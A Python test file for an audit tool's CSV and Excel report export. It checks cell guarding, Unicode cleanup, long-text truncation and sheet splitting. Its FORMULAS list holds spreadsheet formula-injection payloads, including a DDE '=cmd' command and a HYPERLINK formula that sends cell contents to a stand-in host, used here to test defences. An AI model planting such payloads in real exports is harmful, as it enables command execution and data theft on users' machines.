"""CSV and Excel: every text arrives as text, nothing undefined as a number."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from auditor.domain.calls import Call
from auditor.domain.findings import CallOutcome
from auditor.domain.runs import CallRecord
from auditor.report.agent_tables import scorecard_table
from auditor.report.columns import Column, ColumnKind, Row, Table, clock
from auditor.report.csv import cell, table_to_csv, uncell
from auditor.report.i18n import Words
from auditor.report.tables import report_tables
from auditor.report.xlsx import MAX_TEXT, tables_to_xlsx

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    "\u3000=1",
)
HARMLESS = ("陈思雨", "A-01", "1=1", "007", "a@b", "", "'quoted", "老赖、骗子")


def table(*rows: Row) -> Table:
    """A table with a text and a number."""
    columns = (
        Column("word", "词", "Word"),
        Column("points", "分", "Points", ColumnKind.NUMBER),
    )

    def again() -> Iterator[Row]:
        return iter(rows)

    return Table("sample", "样表", "Sample", columns, again)


def sheet_of(*rows: Row, lang: str = "zh", **options: Any) -> Any:
    """The workbook of one table as openpyxl reads it."""
    buffer = io.BytesIO()
    tables_to_xlsx(buffer, [table(*rows)], lang, **options)
    return openpyxl.load_workbook(buffer)


@pytest.mark.parametrize("bad", FORMULAS)
def test_a_csv_cell_never_begins_as_a_formula(bad: str) -> None:
    """What a spreadsheet would run gets a quotation mark in front."""
    rows = list(csv.reader(io.StringIO(table_to_csv(table((bad, 1))).decode("utf-8-sig"))))
    assert rows[1][0].startswith("'")


@pytest.mark.parametrize("good", HARMLESS)
def test_other_text_is_left_alone(good: str) -> None:
    """Names, ids with leading zeros and inner signs stay as they are."""
    assert cell(good) == good


def test_our_own_numbers_are_not_guarded() -> None:
    """A negative number is a number; nothing is an empty cell."""
    lines = table_to_csv(table(("x", -1.5), ("y", None))).decode("utf-8-sig").split("\r\n")
    assert lines == ["word,points", "x,-1.5", "y,", ""]


@given(st.text(st.characters(exclude_characters="\0")) | st.text("'=+ ＝a", max_size=6))
def test_guarding_can_be_undone(text: str) -> None:
    """Reading back gives the text; NUL alone is lost, which no CSV can hold."""
    assert uncell(str(cell(text))) == text


def test_csv_opens_as_utf_8_in_a_spreadsheet(make: Any) -> None:
    """There is a byte order mark, and the header holds the column ids."""
    night = make.night(20)
    data = table_to_csv(scorecard_table(night.cards, night.policy.scoring, Words("zh")))
    assert data.startswith(b"\xef\xbb\xbfrank,agent_id,agent_name,team,calls,")


@pytest.mark.parametrize(
    "bad", [*FORMULAS, "http://x.example", "mailto:a@b", "{=1+1}", "12", "1e5"]
)
def test_a_sheet_holds_text_as_text(bad: str) -> None:
    """No formula, no link, no number comes of a text cell."""
    found = sheet_of((bad, 3.0)).worksheets[0]["A2"]
    assert (found.data_type, found.hyperlink) == ("s", None)
    plain = bad.replace("\0", "\ufffd").replace("\r", "\n")
    assert str(found.value).replace("\r", "\n").replace("_x000D_", "\n") == plain


def test_no_part_of_a_workbook_is_a_formula_or_a_link(make: Any) -> None:
    """The file itself has neither formula elements nor relations to outside."""
    call = make.call("=1+1", agent_name="@SUM(A1)", team="http://x.example")
    night = make.of(make.audited(call, make.violation(call)))
    buffer = io.BytesIO()
    tables = report_tables(
        night.info, night.records, night.cards, night.policy.scoring, Words("zh")
    )
    tables_to_xlsx(buffer, tables, "zh")
    with zipfile.ZipFile(buffer) as packed:
        for name in packed.namelist():
            part = packed.read(name)
            assert b"<f>" not in part
            assert b"hyperlink" not in part
            assert b'TargetMode="External"' not in part


@pytest.mark.parametrize("text", ["\x01\x02", "\ud800", "\ufffe", "x\x0by", "_x0041_", "\x1b[31m"])
def test_characters_no_workbook_can_hold_do_not_break_it(text: str) -> None:
    """They are replaced; an escape of Excel's stays what was written."""
    value = sheet_of((text, 1)).worksheets[0]["A2"].value
    assert value is not None
    assert not any(ord(char) < 32 and char not in "\t\n\r" for char in str(value))
    assert "A" not in str(value).replace("_x0041_", "").replace("_x005F_x0041_", "")


@pytest.mark.parametrize("char", ["长", "𠮷"])
def test_long_text_is_cut_to_what_a_cell_holds(char: str) -> None:
    """Cut to 32,767 units, with a mark, never in the middle of a character."""
    value = sheet_of((char * 40_000, 1)).worksheets[0]["A2"].value
    assert len(value.encode("utf-16-le")) // 2 <= MAX_TEXT
    assert value.endswith(char + "…")


@pytest.mark.parametrize(("rows", "sizes"), [(0, [1]), (3, [4]), (4, [4, 2]), (7, [4, 4, 2])])
def test_a_table_longer_than_a_sheet_goes_on_in_the_next(rows: int, sizes: list[int]) -> None:
    """No row is lost at the limit, and every sheet has its header."""
    book = sheet_of(*((f"r{n}", float(n)) for n in range(rows)), max_rows=4)
    assert [sheet.max_row for sheet in book] == sizes
    values = [row[0].value for sheet in book for row in sheet.iter_rows(min_row=2) if row[0].value]
    assert values == [f"r{n}" for n in range(rows)]
    assert all(sheet["A1"].value == "词" for sheet in book)


@pytest.mark.parametrize(
    ("lang", "names"),
    [
        ("zh", ["概要", "坐席", "发现", "通话", "告知事项"]),
        ("en", ["Summary", "Agents", "Findings", "Calls", "Disclosures"]),
    ],
)
def test_the_workbook_reads_in_the_language_asked_for(
    make: Any, tmp_path: Path, lang: str, names: list[str]
) -> None:
    """Sheets are named, frozen below the header and can be filtered."""
    out = make.write(tmp_path, make.night(20), lang=lang)
    book = openpyxl.load_workbook(out / "report.xlsx")
    assert book.sheetnames == names
    assert all(sheet.freeze_panes == "A2" for sheet in book)
    assert all(sheet.auto_filter.ref for sheet in book)
    assert book[names[3]].max_row == 21


def test_an_undefined_figure_is_an_empty_cell(make: Any, tmp_path: Path) -> None:
    """An agent without audited calls has no score, not 0."""
    call = Call(call_id="C1", agent_id="A1")
    failed = CallRecord(call_id="C1", outcome=CallOutcome.FAILED, call=call, reason="empty_file")
    out = make.write(tmp_path, make.of(failed))
    sheet = openpyxl.load_workbook(out / "report.xlsx")["坐席"]
    header = [head.value for head in sheet[1]]
    row = dict(zip(header, [found.value for found in sheet[2]], strict=True))
    assert (row["质检通数"], row["平均分"], row["每百通发现"]) == (0, None, None)


def test_every_declared_column_has_its_cell(make: Any) -> None:
    """Rows and columns of every table have the same width and kinds."""
    night = make.night(30)
    words = Words("en")
    tables = (
        *report_tables(night.info, night.records, night.cards, night.policy.scoring, words),
        scorecard_table(night.cards, night.policy.scoring, words),
    )
    for one in tables:
        ids = [column.column_id for column in one.columns]
        assert len(set(ids)) == len(ids)
        for row in one.rows():
            for column, value in zip(one.columns, row, strict=True):
                if one.name != "summary" and column.kind is ColumnKind.TEXT:
                    assert value is None or isinstance(value, str | bool), column.column_id
                elif column.kind is not ColumnKind.TEXT:
                    assert value is None or isinstance(value, int | float), column.column_id


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(0, "00:00"), (59.99, "00:59"), (60, "01:00"), (3599.9, "59:59"), (3600, "1:00:00")],
)
def test_positions_read_as_on_a_player(seconds: float, text: str) -> None:
    """Minutes and seconds, hours only where there are any; never rounded up past the words."""
    assert clock(seconds) == text
